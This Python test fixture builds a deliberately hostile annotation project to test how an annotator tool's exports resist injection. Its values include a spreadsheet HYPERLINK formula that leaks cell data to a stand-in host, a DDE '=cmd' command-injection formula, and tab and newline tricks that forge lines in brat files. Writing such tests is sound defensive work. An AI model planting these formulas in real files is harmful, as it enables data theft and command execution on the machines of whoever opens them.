"""A project whose words were chosen by an adversary: formulas for spreadsheets, line
breaks and tabs that would forge brat lines, labels with spaces and brat's own syntax
(on sys.path through pytest's `pythonpath`)."""

from annotator.core.claims import ClaimSuggestion, SourceSuggestion
from annotator.core.editing import update_statement
from annotator.core.model import Document, Span, SpanStatus
from annotator.core.store import Store
from annotator.core.suggested import to_records

FORGED = "A77\tRating T1 true"  # a line of its own, if a field may break the line
TEXT = (
    f"=1+1 said TASS.\n\nSelon « =cmd », Peskov\u2028{FORGED}\x0ba nié. -3 prisonniers, 100% sûr."
)
TITLE = '=HYPERLINK("http://x/leak?d="&A2,"TASS")'
SPEAKER = "=cmd|' /C calc'!A0"
NOTE = f"@SUM(1+1)\n{FORGED} ‖ speaker: forged \\n\r\n#9\tAnnotatorNotes T1\tforged"
CATEGORY = f"state media\n{FORGED}"
ENTITY_LABELS = [f"PER\n{FORGED}", "New label", "Claim", "100%", "a|b,c:d=e", "'quoted"]


def _at(word: str) -> tuple[int, int]:
    start = TEXT.index(word)
    return start, start + len(word)


def hostile_project(path) -> Store:
    """One document: two claims (one said by TASS, one by nobody), entities with hostile
    labels, statements with hostile speakers, categories, ratings and notes."""
    store = Store(path)
    document_id, _ = store.add_document(
        Document(text=TEXT, title=TITLE, lang="fr", outlet="@outlet", published="-1")
    )
    first = (0, TEXT.index("\n"))
    second = (TEXT.index("Selon"), len(TEXT))
    spans, statements = to_records(
        [
            ClaimSuggestion(
                *first, ("number",), (SourceSuggestion("TASS", "x", "", *_at("TASS")),)
            ),
            ClaimSuggestion(*second, ("according:selon",)),
        ]
    )
    words = ["=1+1", "TASS", "=cmd", "Peskov", "-3", "prisonniers"]
    entities = [
        Span(*_at(word), label, status=SpanStatus.ACCEPTED)
        for word, label in zip(words, ENTITY_LABELS, strict=True)
    ]
    store.save_suggestions(document_id, entities + spans, statements, "test")
    said, unsaid = statements
    update_statement(
        store,
        said.uid,
        "-eve",
        speaker=SPEAKER,
        source_category=CATEGORY,
        stance="+supports",
        rating="mostly false",
        note=NOTE,
    )
    update_statement(
        store, unsaid.uid, "\talice", speaker="\rPeskov", rating="+1", note="\tindented"
    )
    return store
